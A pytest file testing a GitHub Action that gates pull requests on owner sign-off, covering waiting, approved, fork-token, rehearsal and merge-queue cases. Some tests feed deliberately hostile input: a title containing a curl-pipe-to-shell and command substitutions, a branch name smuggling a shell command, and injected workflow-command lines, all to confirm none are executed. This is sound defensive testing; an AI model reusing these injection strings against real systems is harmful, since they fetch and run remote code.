"""The Action without a service: its own steps, run by act in a checkout of the change, beside a stand-in for GitHub."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from builders_actions import a_checkout, run_action
from builders_forge_world import BODY, ForgeWorld, a_world

from gate.core.explain.json import parse_verdict

HOSTILE = '"; curl evil | sh #"; touch pwned #$(touch pwned)`touch pwned`'


@pytest.fixture
def forge() -> Iterator[ForgeWorld]:
    with a_world() as world:
        yield world


class TestAChangeThatWaits:
    def test_fails_the_job_and_says_for_whom(self, forge: ForgeWorld, tmp_path: Path) -> None:
        pull = forge.a_pull()
        forge.world.requests.clear()
        ran = run_action(tmp_path, forge, pull, mode="standalone", fail_on="none")
        assert ran.code == 1, "fail-on must not weaken anything here"
        assert ran.outputs["state"] == "waiting"
        assert ran.outputs["waiting-for"] == "alice, bob"
        assert ran.outputs["url"].endswith(f"/acme/shop/pull/{pull.number}")
        assert parse_verdict(ran.outputs["verdict"].encode()).change.head_sha == pull.head_sha
        assert ran.summary.startswith("## \N{HORIZONTAL ELLIPSIS} Waiting\n")
        assert "Advisory: this workflow is part of the repository that it judges" in ran.summary
        assert ran.annotations == ["notice: Nobody of payments has signed off yet. Ask alice or bob to sign off."]
        assert not [target for _, target, _ in forge.world.requests if "/git/" in target and "/git/ref" not in target]

    def test_of_a_hostile_title_does_nothing_more(self, forge: ForgeWorld, tmp_path: Path) -> None:
        body = f"{BODY}\n\n::error::done\n::set-output name=state::approved\n##[add-path]/tmp/evil\n"
        pull = forge.a_pull(title=HOSTILE, body=body, branch='x";touch${IFS}pwned;"')
        ran = run_action(tmp_path, forge, pull, mode="standalone")
        assert (ran.code, ran.outputs["state"]) == (1, "waiting")
        assert not list(tmp_path.rglob("pwned"))
        assert "error: done" not in ran.annotations
        assert json.loads(ran.outputs["verdict"])["change"]["title"] == HOSTILE


class TestAChangeThatIsApproved:
    def test_passes_by_an_owners_review_on_the_workflow_of_another_repository(
        self, forge: ForgeWorld, tmp_path: Path
    ) -> None:
        pull = forge.a_pull()
        pull.review(forge.alice)
        workflow = {"GITHUB_WORKFLOW_REF": "acme/central/.github/workflows/gate.yml@refs/heads/main"}
        ran = run_action(tmp_path, forge, pull, event="pull_request_review", environment=workflow, mode="standalone")
        assert (ran.code, ran.outputs["state"], ran.outputs["waiting-for"]) == (0, "approved", "")
        assert "The workflow stands in another repository" in ran.summary
        assert "Advisory" not in ran.summary

    def test_of_a_fork_passes_with_a_token_that_only_reads(self, forge: ForgeWorld, tmp_path: Path) -> None:
        forge.shop.private = False
        fork = forge.world.fork_of(forge.shop, forge.dave)
        fork.commit("topic", {"api/pay.py": "amount = 7\n"}, author=forge.dave, start="main")
        pull = forge.shop.open_pull(head="topic", head_repository=fork, author=forge.dave, title="Round", body=BODY)
        pull.review(forge.bob)
        reading = dict.fromkeys(("contents", "pull_requests", "metadata", "issues"), "read")
        token = forge.world.installation_token(forge.world.install(77, organisation=forge.acme, permissions=reading))
        ran = run_action(tmp_path, forge, pull, secrets={"GITHUB_TOKEN": token}, mode="standalone")
        assert (ran.code, ran.outputs["state"]) == (0, "approved"), ran.log
        assert token not in ran.log


class TestARehearsal:
    def test_counts_what_was_tried_in_the_checkout(self, forge: ForgeWorld, tmp_path: Path) -> None:
        pull = forge.a_pull()
        ran = run_action(tmp_path, forge, pull, mode="standalone", rehearse="true")
        rehearsal = json.loads(ran.outputs["verdict"])["rollback"]["rehearsal"]
        assert "revert" in json.dumps(rehearsal)
        assert "rehearsal: merge passed" in ran.log

    def test_runs_no_code_of_the_change_with_the_rights_of_the_base(self, forge: ForgeWorld, tmp_path: Path) -> None:
        forge.shop.commit("main", {".gate/ownership.yaml": WITH_COMMAND}, author=forge.carol)
        pull = forge.a_pull()
        where = {"event": "pull_request_target", "checkout": a_checkout(forge, tmp_path, pull)}
        ran = run_action(tmp_path, forge, pull, mode="standalone", rehearse="true", **where)  # type: ignore[arg-type]
        assert not list(tmp_path.rglob("ran-it"))
        assert "rehearsal: revert passed" in ran.log
        assert "never runs a change's code" in ran.outputs["verdict"]


WITH_COMMAND = """\
version: 1
people:
  alice: {github: alice, github_id: 1001}
components:
  - {name: payments-api, owner: alice, paths: [/api/], rollback: {rehearse: touch $OLDPWD/ran-it ran-it}}
"""


class TestAJobThatCannotBeJudged:
    def test_of_a_merge_queue_fails_and_says_what_can(self, forge: ForgeWorld, tmp_path: Path) -> None:
        group = {"merge_group": {"head_sha": "0" * 40}, "repository": {"full_name": "acme/shop"}}
        ran = run_action(tmp_path, forge, None, event="merge_group", payload=group, mode="standalone")
        assert (ran.code, ran.outputs["state"]) == (1, "error")
        assert "a merge queue's group is judged by the service alone" in ran.summary
